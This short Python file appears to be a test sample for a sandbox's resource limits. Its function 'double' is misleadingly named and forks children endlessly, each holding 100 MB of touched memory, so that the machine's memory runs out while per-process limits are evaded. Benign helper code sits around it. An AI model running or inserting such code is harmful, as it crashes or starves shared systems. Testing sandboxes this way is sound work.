"""Takes all the memory in pieces, each in a child of its own that stays below every limit of a process."""

# expects: time_limit

import contextlib
import mmap
import os
import signal

HUGE_PAGES = 14


def fill(size):
    """Memory of which every page is in use, by huge pages so that it takes no time."""
    area = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    with contextlib.suppress(OSError):
        area.madvise(HUGE_PAGES)
    area[:: mmap.PAGESIZE] = bytes(size // mmap.PAGESIZE)
    return area


def double(values):
    # The kernel ends the largest child, and the process that was asked goes on.
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                kept = fill(100 << 20)
                while kept:
                    signal.pause()


def scale(array, factor):
    return array * factor


class Counter:
    def __init__(self):
        self.total = 0

    def add(self, n):
        self.total += n
        return self.total
